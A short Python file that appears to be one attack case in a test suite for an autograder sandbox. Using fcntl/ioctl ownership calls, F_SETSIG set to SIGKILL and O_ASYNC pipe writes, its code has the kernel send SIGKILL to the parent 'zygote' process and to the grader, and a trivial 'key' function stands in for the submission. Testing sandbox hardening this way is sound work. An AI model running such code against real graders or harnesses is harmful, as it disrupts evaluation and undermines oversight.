"""Has the kernel signal the grader and the zygote when a pipe, a socket or a file has news.

loses: nothing
needs: seccomp uid
"""

import fcntl
import os
import signal
import struct
import time

from hw0_helper import *

F_SETSIG, F_SETOWN_EX, FIOSETOWN, SIOCSPGRP = 10, 15, 0x8901, 0x8902
for pid in (os.getppid(), int("@GRADER@")):
    for claim in (
        lambda f, pid=pid: fcntl.fcntl(f, fcntl.F_SETOWN, pid),
        lambda f, pid=pid: fcntl.fcntl(f, F_SETOWN_EX, struct.pack("ii", 1, pid)),
        lambda f, pid=pid: fcntl.ioctl(f, FIOSETOWN, struct.pack("i", pid)),
        lambda f, pid=pid: fcntl.ioctl(f, SIOCSPGRP, struct.pack("i", pid)),
    ):
        reader, writer = os.pipe()
        try:
            claim(reader)
            fcntl.fcntl(reader, F_SETSIG, signal.SIGKILL)
        except OSError:
            pass
        try:
            fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
            os.write(writer, b"x")
        except OSError:
            pass
time.sleep(0.05)


def key(x):
    return x
